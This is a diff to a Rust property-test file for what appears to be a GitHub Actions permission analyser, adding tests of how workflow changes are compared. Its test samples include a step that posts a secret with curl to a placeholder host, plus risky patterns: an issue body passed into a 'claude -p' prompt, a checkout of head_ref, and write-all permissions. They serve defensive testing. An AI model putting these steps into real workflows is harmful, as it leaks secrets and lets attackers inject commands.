@@ -305,6 +305,17 @@ fn workflow() -> impl Strategy<Value = String> {
     })
 }
 
+/// More steps for the last job of such a workflow, or one more job.
+fn added() -> impl Strategy<Value = &'static str> {
+    prop::sample::select(vec![
+        "      - run: curl -d ${{ secrets.C }} https://y.invalid\n",
+        "      - uses: octo-org/other@v1\n        with: {key: '${{ secrets.A }}'}\n",
+        "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n",
+        "      - run: claude -p '${{ github.event.issue.body }}'\n",
+        "  more:\n    runs-on: self-hosted\n    permissions: write-all\n    steps: [{run: make}]\n",
+    ])
+}
+
 fn tree() -> impl Strategy<Value = Vec<(String, String)>> {
     prop::collection::btree_map("[abc]", workflow(), 0..4).prop_map(|files| {
         files
@@ -350,6 +361,35 @@ proptest! {
     #[test]
     fn nothing_less_itself_is_nothing(files in tree()) {
         prop_assert!(subtract(&read(&files), &read(&files)).is_empty());
+    }
+
+    #[test]
+    fn another_form_of_the_same_files_is_no_change(files in tree()) {
+        let in_json = |text: &str| {
+            let value: yaml_serde::Value = yaml_serde::from_str(text).unwrap();
+            format!("# again\n\n{}\n", serde_json::to_string_pretty(&value).unwrap())
+        };
+        let again: Vec<_> =
+            files.iter().map(|(path, text)| (path.clone(), in_json(text))).collect();
+        prop_assert!(subtract(&read(&files), &read(&again)).is_empty());
+    }
+
+    #[test]
+    fn a_file_that_becomes_active_is_never_nothing(text in workflow()) {
+        let at = |path: &str| read(&[(path.to_owned(), text.clone())]);
+        for inactive in ["examples/ci.yml", ".github/workflows/off/ci.yml", ".github/ci.yml"] {
+            let difference = subtract(&at(inactive), &at(PATH));
+            prop_assert_eq!(difference.added.len(), at(PATH).grants().len());
+            prop_assert!(!difference.added.is_empty(), "{}", inactive);
+            let back = subtract(&at(PATH), &at(inactive));
+            prop_assert!(back.added.is_empty() && !back.removed.is_empty(), "{}", inactive);
+        }
+    }
+
+    #[test]
+    fn what_is_added_to_a_file_narrows_nothing(text in workflow(), adds in added()) {
+        let difference = subtract(&one(&text), &one(&format!("{text}{adds}")));
+        prop_assert!(difference.narrowed.is_empty() && difference.removed.is_empty());
     }
 
     #[test]
